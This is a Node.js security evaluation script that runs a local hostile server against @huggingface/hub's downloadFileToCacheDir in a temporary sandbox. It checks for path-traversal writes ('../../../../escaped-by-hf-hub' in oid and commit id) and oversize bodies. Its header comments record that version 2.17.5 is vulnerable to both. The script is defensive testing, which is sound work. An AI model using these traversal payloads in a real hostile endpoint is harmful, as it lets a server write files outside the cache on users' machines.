// Measures what @huggingface/hub's downloadFileToCacheDir does with a hostile
// endpoint (the evaluation behind keeping src/hub/, see SECURITY.md).
//   npm install --no-save @huggingface/hub@2.17.5 && node scripts/security/eval-huggingface-hub.mjs
// Measured with 2.17.5: a traversal in the oid or lastCommit.id is written outside the
// cache, and a body longer than declared is kept as the file.
import http from 'node:http';
import { mkdtempSync, readdirSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { downloadFileToCacheDir } from '@huggingface/hub';

const body = Buffer.from('{"a":1}');
const oversize = Buffer.concat([body, Buffer.alloc(1000, 65)]);
let mode = 'etag';
const server = http.createServer((req, res) => {
  if (req.url.includes('/paths-info/')) {
    const oid = mode === 'etag' ? '../../../../escaped-by-hf-hub' : 'a'.repeat(40);
    const commit = mode === 'commit' ? '../../../../escaped-commit' : 'b'.repeat(40);
    res.writeHead(200, { 'content-type': 'application/json' });
    return res.end(JSON.stringify([{ path: 'config.json', type: 'file', oid, size: body.length, lastCommit: { id: commit, title: 't', date: new Date().toISOString() } }]));
  }
  const send = mode === 'oversize' ? oversize : body;
  if (req.headers.range === 'bytes=0-0') { res.writeHead(206, { 'content-range': `bytes 0-0/${body.length}`, 'content-length': 1, etag: '"'+'a'.repeat(40)+'"' }); return res.end(send.subarray(0, 1)); }
  res.writeHead(200, { 'content-length': send.length }); res.end(send);
});
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const hubUrl = `http://127.0.0.1:${server.address().port}`;
for (mode of ['etag', 'commit', 'oversize']) {
  const sandbox = mkdtempSync(path.join(tmpdir(), 'hfhub-eval-'));
  const cacheDir = path.join(sandbox, 'a', 'b', 'cache');
  let result;
  try { result = await downloadFileToCacheDir({ repo: 'evil/repo', path: 'config.json', hubUrl, cacheDir }); } catch (e) { result = 'error: ' + e.message; }
  const walk = (d) => readdirSync(d, { withFileTypes: true }).flatMap((f) => f.isDirectory() ? walk(path.join(d, f.name)) : [path.join(d, f.name)]);
  const outside = walk(sandbox).filter((f) => !f.startsWith(cacheDir));
  console.log(mode, '->', typeof result === 'string' && result.startsWith('error') ? result : 'ok', '| files outside the cache:', outside.map((f) => path.relative(sandbox, f)));
  if (mode === 'oversize' && typeof result === 'string' && !result.startsWith('error')) console.log('  downloaded size', statSync(result).size, 'declared', body.length);
}
server.close();
